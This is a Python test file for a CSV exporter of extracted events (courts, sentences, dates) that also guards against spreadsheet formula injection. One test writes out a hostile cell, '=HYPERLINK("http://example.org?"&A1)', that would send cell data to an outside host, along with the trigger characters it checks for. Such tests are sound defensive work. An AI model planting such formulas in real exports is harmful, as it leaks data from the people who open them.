"""All events as one table: names, not ids, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from habeas.exchange.events_csv import COLUMNS, write_csv
from habeas.record import Reading
from tests.conftest import ROOT
from tests.exchange.example import example
from tests.exchange.readings import readings


def rows(*made: Reading) -> list[dict[str, str]]:
    """The table as a program reads it."""
    out = io.StringIO(newline="")
    write_csv(made, out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_a_row_tells_who_did_what_to_whom_by_name() -> None:
    row = rows(example())[1]
    told = {
        "source": "veldara.txt",
        "title": "Annual Report: Veldara 2013",
        "publisher": "Lantern Watch",
        "period": "2012",
        "event": "e2",
        "type": "sentence",
        "date": "2012-10-11",
        "date_text": "11 October",
        "agent": "Ostrel City Court",
        "subject": "Daven Orlik",
        "term": "P7Y6M",
        "charges": "inciting disorder",
        "modality": "actual",
        "trigger": "sentenced",
        "confidence": "0.9",
    }
    assert told.items() <= row.items()


def test_every_quote_has_its_place_in_the_text() -> None:
    reading = example()
    for row in rows(reading):
        for quote in ("trigger", "passage"):
            start, end = int(row[f"{quote}_start"]), int(row[f"{quote}_end"])
            assert reading.source.text[start:end] == row[quote]


def test_what_is_not_told_is_empty() -> None:
    row = rows(example())[3]
    empty = ("date", "date_earliest", "date_text", "date_text_start", "agent", "term", "outcome")
    assert [column for column in empty if row[column]] == []


@pytest.mark.parametrize(
    ("date", "earliest", "latest"),
    [
        ("2012-10", "2012-10-01", "2012-10-31"),
        ("{2012-02,2012-06}", "2012-02-01", "2012-06-30"),
        ("2005/..", "2005-01-01", ""),
        ("../2005", "", "2005-12-31"),
    ],
)
def test_the_days_that_are_possible_stand_beside_the_date(
    date: str, earliest: str, latest: str
) -> None:
    reading = example()
    reading = replace(reading, events=(replace(reading.events[0], date=date),), cases=())
    [row] = rows(reading)
    assert (row["date"], row["date_earliest"], row["date_latest"]) == (date, earliest, latest)


def test_several_readings_make_one_table() -> None:
    table = rows(example(), replace(example(), events=example().events[:2], cases=()))
    assert [row["event"] for row in table] == [f"e{n}" for n in range(1, 10)] + ["e1", "e2"]


def test_a_table_without_readings_has_its_heading() -> None:
    out = io.StringIO(newline="")
    write_csv([], out)
    assert out.getvalue() == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize("front", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_becomes_text(front: str) -> None:
    cell = f'{front}HYPERLINK("http://example.org?"&A1)'
    reading = example()
    hostile = replace(reading.entities[1], name=cell)
    entities = (reading.entities[0], hostile, *reading.entities[2:])
    assert rows(replace(reading, entities=entities))[0]["subject"] == f"'{cell}"


@given(st.lists(readings(), max_size=3))
def test_each_event_is_one_whole_row_with_nothing_to_run_in_it(made: Sequence[Reading]) -> None:
    table = rows(*made)
    assert len(table) == sum(len(reading.events) for reading in made)
    for row in table:
        assert tuple(row) == COLUMNS
        assert [cell for cell in row.values() if cell.startswith(tuple("=+-@\t\r\n"))] == []


def test_the_columns_stand_in_the_reference_in_their_order() -> None:
    page = (ROOT / "docs" / "reference" / "command-line.md").read_text(encoding="utf-8")
    [paragraph] = re.findall(r"The columns of the CSV are.*?\n\n", page, re.DOTALL)
    documented = re.findall(r"`([a-z_]+)`", paragraph.partition("each with")[0])
    assert documented == [c for c in COLUMNS if not c.endswith(("_start", "_end"))]
